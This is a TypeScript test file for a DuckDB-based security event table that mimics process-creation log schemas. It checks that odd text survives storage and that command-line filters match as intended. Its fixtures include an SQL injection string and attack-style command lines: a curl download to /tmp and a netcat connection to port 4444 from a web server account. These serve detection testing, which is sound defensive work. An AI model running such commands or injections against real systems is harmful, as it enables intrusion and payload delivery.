import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Database } from '../../src/duckdb/database.ts';
import { EventTable } from '../../src/duckdb/event-table.ts';
import { eventAt } from './events.ts';

/** Texts that something on the way could take for its own. */
const HOSTILE = [
  '\0nul\0',
  'tab\tand\nline\r',
  '"quotes" and \\backslashes\\ and \\u0041 and \\ud800',
  'half \ud83d of a pair, and \udc00 the other',
  "'); DROP TABLE x; --",
  '💥 é K İ ﻿',
  'x'.repeat(100_000),
  '',
];

describe('events in a table', () => {
  let database: Database;
  const rows = async (query: string) => (await database.connection.runAndReadAll(query)).getRowsJson();

  beforeAll(async () => {
    database = await Database.open();
    const table = await EventTable.create(database);
    for (const [at, text] of HOSTILE.entries())
      table.add({ ...eventAt(at), TargetProcessCommandLine: text, AdditionalFields: { Argv: [text] } });
    await table.flush();
    await table.flush();
    await database.lock();
  });
  afterAll(() => database.close());

  test('text comes through as it is, but for halves of surrogate pairs', async () => {
    const found = await rows(
      'SELECT TargetProcessCommandLine, AdditionalFields FROM imProcessCreate ORDER BY EventStartTime',
    );
    const whole = HOSTILE.map((text) => text.toWellFormed());
    expect(found.map(([text]) => text)).toEqual(whole);
    expect(found.map(([, json]) => JSON.parse(String(json)).Argv[0])).toEqual(whole);
  });

  test('times are times, counts are numbers, what is absent is null', async () => {
    const [first] = await rows(
      'SELECT EventStartTime, typeof(EventStartTime), EventCount, typeof(EventCount), ActorUsername FROM imProcessCreate LIMIT 1',
    );
    expect(first).toEqual(['2026-11-24 09:00:00', 'TIMESTAMP', 1, 'INTEGER', null]);
  });

  test('the functions and tables that show them', async () => {
    for (const table of ['imProcessCreate', 'ASimProcessEventLogs', '"_Im_ProcessCreate"', 'DeviceProcessEvents'])
      expect(await rows(`SELECT count(*) FROM ${table}`)).toEqual([[String(HOSTILE.length)]]);
    const [device] = await rows(
      'SELECT DeviceName, FolderPath, FileName, ProcessId, InitiatingProcessFileName, AccountName, InitiatingProcessParentFileName FROM DeviceProcessEvents ORDER BY Timestamp LIMIT 1',
    );
    expect(device).toEqual(['web01', '/usr/bin/id', 'id', '100', 'dash', 'www-data', 'apache2']);
  });
});

describe('the parameters of _Im_ProcessCreate', () => {
  let database: Database;

  beforeAll(async () => {
    database = await Database.open();
    const table = await EventTable.create(database);
    table.add({ ...eventAt(0), TargetProcessCommandLine: 'curl http://10.1.2.3/a -o /tmp/x' });
    table.add({ ...eventAt(1), TargetProcessCommandLine: 'nc 10.20.2.3 4444', TargetUsername: 'root' });
    await table.flush();
    await database.lock();
  });
  afterAll(() => database.close());

  test.each([
    ['', ['100', '101']],
    ["p_starttime := TIMESTAMP '2026-11-24 09:00:01'", ['101']],
    ["p_endtime := TIMESTAMP '2026-11-24 09:00:00.5'", ['100']],
    ['p_commandline_has_any := \'["CURL", "wget"]\'::JSON', ['100']],
    ['p_commandline_has_any := \'["cur"]\'::JSON', []],
    ['p_commandline_has_all := \'["curl", "tmp"]\'::JSON', ['100']],
    ['p_commandline_has_all := \'["curl", "4444"]\'::JSON', []],
    ['p_commandline_has_any_ip_prefix := \'["10.1."]\'::JSON', ['100']],
    ['p_commandline_has_any_ip_prefix := \'["0.1."]\'::JSON', []],
    ['p_commandline_has_any_ip_prefix := \'["10.2"]\'::JSON', []],
    ['p_commandline_has_any_ip_prefix := \'["10.20.2.3"]\'::JSON', ['101']],
    ['p_actingprocess_has_any := \'["dash"]\'::JSON', ['100', '101']],
    ['p_parentprocess_has_any := \'["nginx"]\'::JSON', []],
    ["p_targetusername_has := 'root'", ['101']],
    ["p_eventtype := 'ProcessTerminated'", []],
    ["p_eventtype := 'ProcessCreated', p_targetprocess_has_any := '[\"id\"]'::JSON", ['100', '101']],
    ['p_hashes_has_any := \'["abc"]\'::JSON', []],
    ['p_disabled := true', []],
  ])('%s', async (given, pids) => {
    const query = `SELECT TargetProcessId FROM "_Im_ProcessCreate"(${given}) ORDER BY 1`;
    expect((await database.connection.runAndReadAll(query)).getRowsJson().flat()).toEqual(pids);
  });
});
